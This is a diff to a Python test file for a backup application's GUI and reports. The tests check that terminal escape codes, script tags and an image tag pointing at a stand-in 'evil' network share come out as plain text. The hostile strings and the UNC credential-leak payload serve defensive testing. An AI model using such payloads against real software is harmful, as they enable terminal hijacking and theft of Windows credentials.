@@ -8,11 +8,13 @@ import os
 import stat
 import subprocess
 import sys
-from pathlib import Path
+from pathlib import Path, PurePath
 from typing import Any
 
 import psutil
 import pytest
+from PySide6.QtCore import Qt
+from PySide6.QtWidgets import QApplication
 
 from core import restore_steps
 from core.cli import main
@@ -20,14 +22,23 @@ from core.console import JsonReporter, TextReporter
 from core.events import JobState, Level, Notice, Outcome
 from core.settings import set_up_logging
 from core.visible import visible
+from gui.contract import BackupEntry
 from gui.flow import Goal
 from gui.job_record import JobRecord
+from gui.pages.backup_table import BackupTable
 from gui.report import make_report
+from gui.theme import Theme
+from gui.widgets import make_label
 from tests.support import Server, plain_server
 
 posix = pytest.mark.skipif(sys.platform == "win32", reason="modes of POSIX; on Windows a protected ACL")
 HOSTILE = '\x1b]0;title\x07\x1b[2J\x1b[31m\rx\x9b2J<script>alert(1)</script><b>"&\u202etxt.exe'
 CANARY = "hunter2-canary"
+
+
+@pytest.fixture
+def app(qapp: QApplication) -> QApplication:
+    return qapp
 
 
 @pytest.mark.parametrize("char", ["\x1b", "\x07", "\r", "\x08", "\x7f", "\x9b", "\u202e", "\u2066", "\u2028"])
@@ -90,6 +101,23 @@ def test_a_report_shows_markup_as_text() -> None:
     assert "<script" not in page
     assert "<b>" not in page
     assert "&lt;script&gt;" in page
+
+
+def test_markup_in_a_backup_is_no_markup_in_a_tool_tip(app: QApplication) -> None:
+    """An <img src="//server/share/x"> would make Windows send the account's credentials to that server."""
+    markup = '<img src="//evil/share/x.png"><b>host</b>'
+    table = BackupTable(Theme(app))
+    table.show_entries([BackupEntry(PurePath(f"/b/{markup}"), markup, None, markup, "", 1, "", markup)], None)
+    row = table.topLevelItem(0)
+    assert row is not None
+    below = row.child(0)
+    assert below is not None
+    tips = [row.toolTip(column) for column in range(table.columnCount())] + [below.toolTip(0)]
+    assert any("img" in tip for tip in tips)
+    for tip in tips:
+        assert "<img" not in tip
+        assert "<b>" not in tip
+    assert make_label(markup).textFormat() is Qt.TextFormat.PlainText
 
 
 def test_a_traceback_in_the_log_hides_what_looks_like_a_secret() -> None:
